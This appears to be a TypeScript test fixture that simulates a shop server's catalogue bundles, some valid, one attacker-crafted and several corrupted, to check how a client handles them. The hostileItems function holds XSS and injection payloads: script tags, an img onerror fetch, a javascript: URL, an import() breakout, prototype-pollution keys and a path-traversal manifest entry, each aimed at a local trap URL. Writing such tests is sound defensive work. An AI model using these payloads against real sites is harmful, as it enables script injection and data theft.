// Bundles that the shop's server has: good ones, one made by an attacker, and broken ones.
import { type BundleItem, type MadeBundle, MUGS, makeBundle } from '../../../web/support/bundle.js';
import { CANARIES } from './canary.js';

/** Every string that a catalogue may hold, as an attacker would write it. `url` is where it is to lead. */
export function hostileItems(url: string): BundleItem[] {
  const script = `<script src="${url}/leak/bundle-script.js"></script>`;
  const image = `"><img src=${url}/leak/bundle-image.js onerror="fetch('${url}/leak/bundle-handler.js')">`;
  return [
    { id: `${url}/leak/bundle-id.js`, popularity: 0.9, title: script, category: image, followers: [1] },
    { id: image, popularity: 0.8, title: `url(${url}/leak/bundle-css.js)`, brand: script, followers: [0] },
    { id: `javascript:fetch('${url}/leak/bundle-javascript.js')`, popularity: 0.7, title: `\${fetch('${url}')}` },
    { id: '__proto__', popularity: 0.6, title: 'constructor', category: 'toString', followers: [4] },
    { id: `');import('${url}/leak/bundle-import.js');('`, popularity: 0.5, title: `\u0000\u2028${script}` },
  ];
}

const canaryItems: BundleItem[] = CANARIES.map((id, i) => ({
  id,
  popularity: 0.9 - i / 10,
  title: `Title ${i}`,
  category: 'mugs',
  followers: [(i + 1) % CANARIES.length],
}));

export interface File {
  type: string;
  body: string | Uint8Array;
  /** So many bytes of it come, and then no more, with the connection open. */
  stallsAt?: number;
}

const START_PAGE: File = { type: 'text/html', body: '<!doctype html><title>Shop</title>' };

/** What is wrong with the bundle in a folder: changes its files in place. Without an entry it is a good one. */
const faults: Record<string, (files: Map<string, File>) => void> = {
  missing: (files) => files.clear(),
  'missing-file': (files) => files.delete(named(files, 'ids')),
  html: (files) => files.set('manifest.json', START_PAGE),
  cut: (files) => change(files, 'manifest.json', (bytes) => bytes.subarray(0, 100)),
  truncated: (files) => change(files, 'graph', (bytes) => bytes.subarray(0, -1)),
  flipped: (files) =>
    change(files, 'popularity', (bytes) => bytes.map((byte, i) => (i === bytes.length - 1 ? byte ^ 1 : byte))),
  stalled: (files) => {
    const name = named(files, 'graph');
    files.set(name, { ...(files.get(name) as File), stallsAt: 10 });
  },
  'page-for-file': (files) => files.set(named(files, 'ids'), START_PAGE),
  elsewhere: (files) =>
    change(files, 'manifest.json', (bytes) => {
      const manifest = JSON.parse(Buffer.from(bytes).toString());
      manifest.files[0].path = '../../leak/manifest.js';
      return Buffer.from(JSON.stringify(manifest));
    }),
};

export interface Models {
  /** `null`: there is no such file. Folders that nobody knows have a good bundle. */
  file(folder: string, name: string): File | null;
  deploy(folder: string, bundle: MadeBundle, signature?: string): void;
}

/** @param trap where the attacker's bundle wants to go */
export function makeModels(trap: string): Models {
  const signatures = new Map<string, string>();
  const bundles: Record<string, MadeBundle> = {
    canaries: makeBundle(canaryItems),
    hostile: makeBundle(hostileItems(trap)),
    newer: makeBundle(MUGS, { format: 99 }),
    expired: makeBundle(MUGS, { created: 1_000_000_000, expires: 1_000_000_001 }),
  };
  const file = (folder: string, name: string): File | null => {
    const bundle = bundles[folder] ?? makeBundle(MUGS);
    const files = new Map<string, File>([['manifest.json', { type: 'application/json', body: bundle.manifest }]]);
    for (const [path, body] of Object.entries(bundle.files))
      files.set(path, { type: 'application/octet-stream', body });
    const signature = signatures.get(folder);
    if (signature !== undefined) files.set('manifest.sig', { type: 'text/plain', body: signature });
    faults[folder]?.(files);
    return files.get(name) ?? null;
  };
  const deploy = (folder: string, bundle: MadeBundle, signature?: string): void => {
    bundles[folder] = bundle;
    signatures.delete(folder);
    if (signature !== undefined) signatures.set(folder, signature);
  };
  return { file, deploy };
}

function named(files: Map<string, File>, start: string): string {
  const found = [...files.keys()].find((name) => name.startsWith(start));
  if (!found) throw new Error(`the bundle has no file ${start}`);
  return found;
}

function change(files: Map<string, File>, start: string, edit: (bytes: Uint8Array) => Uint8Array): void {
  const name = named(files, start);
  const file = files.get(name) as File;
  const bytes = typeof file.body === 'string' ? Buffer.from(file.body) : file.body;
  files.set(name, { ...file, body: edit(bytes) });
}
